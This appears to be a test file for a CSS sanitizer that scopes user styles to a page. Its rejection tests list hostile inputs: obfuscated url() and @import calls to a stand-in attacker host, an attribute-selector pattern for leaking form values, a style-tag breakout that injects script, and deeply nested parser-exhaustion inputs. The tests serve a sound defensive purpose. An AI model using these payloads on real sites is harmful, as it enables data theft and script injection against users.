import { expect, it } from 'vitest'
import { sanitizeCss } from './custom-css.ts'

const cssOf = (css: string) => {
  const result = sanitizeCss(css)
  return 'css' in result ? result.css.replace(/\s+/g, ' ').trim() : result
}

it.each([
  ['.faq { color: red }', '.page .faq { color: red; }'],
  [':root { --brand: red }', '.page { --brand: red; }'],
  ['html, .page .b { margin: 0 }', '.page, .page .b { margin: 0; }'],
  ['html:has(.c) > d { color: red }', '.page:has(.c) > d { color: red; }'],
  ['@media (width < 30rem) { .faq { color: red } }', '@media (width < 30rem) { .page .faq { color: red; } }'],
  ['.a { &:hover { color: red } }', '.page .a { &:hover { color: red; } }'],
  ['.a { color: red', '.page .a { color: red; }'],
  ['.a { color: red } .b, .c > d { margin: 0 }', '.page .a { color: red; } .page .b, .page .c > d { margin: 0; }'],
  [
    '@media print { .a { margin: 0 } } .b { margin: 1px }',
    '@media print { .page .a { margin: 0; } } .page .b { margin: 1px; }',
  ],
  ['.a { &:hover { margin: 0 } } .b { margin: 1px }', '.page .a { &:hover { margin: 0; } } .page .b { margin: 1px; }'],
  ['  ', ''],
])('%j stays inside the page', (given, kept) => {
  expect(cssOf(given)).toBe(kept)
  expect(cssOf(String(kept)), 'saved again, it is the same').toBe(kept)
})

it.each([
  'a { background: url(https://evil.example/x.png) }',
  'a { background: u\\72l(//evil.example) }',
  'a { --x: url(//evil.example); background: var(--x) }',
  'a { --x: \\75rl(//evil.example) }',
  'a { background: image-set("//evil.example" 1x) }',
  'a { background: IMAGE-SET("//evil.example" 1x) }',
  'a { --x: im\\61ge-set("//evil.example" 1x) }',
  'a { background: src("//evil.example") }',
  'input[value^="a"] { background: url(//evil.example/a) }',
  '@import "https://evil.example/x.css";',
  '@font-face { font-family: x; src: url(//evil.example/x) }',
  '@namespace x "y";',
  '@scope (html) { :scope { color: red } }',
  '@unknown x;',
  'a { content: "</style><script>alert(1)</script>" }',
  'a { content: "\\3c/style>" }',
  'a { --x: </style> }',
  '</style><script>alert(1)</script>',
  '.a { html:has(&) { display: none } }',
  '.a { color: red }}',
  `${'.a {'.repeat(4_000)}`,
  `.a { width: ${'calc('.repeat(4_000)}`,
])('refuses %j with a reason', (given) => {
  expect(sanitizeCss(given)).toEqual({ problem: expect.stringMatching(/^\S.*\.$/) })
})

it('reports the line', () => {
  expect(sanitizeCss('.a { color: red }\n\n@page { margin: 0 }')).toEqual({ problem: 'Line 3: @page is not allowed.' })
  expect(sanitizeCss('.a { color: red }\n.b { background: url(x) }')).toEqual({
    problem: 'Line 2: url() is not allowed.',
  })
})
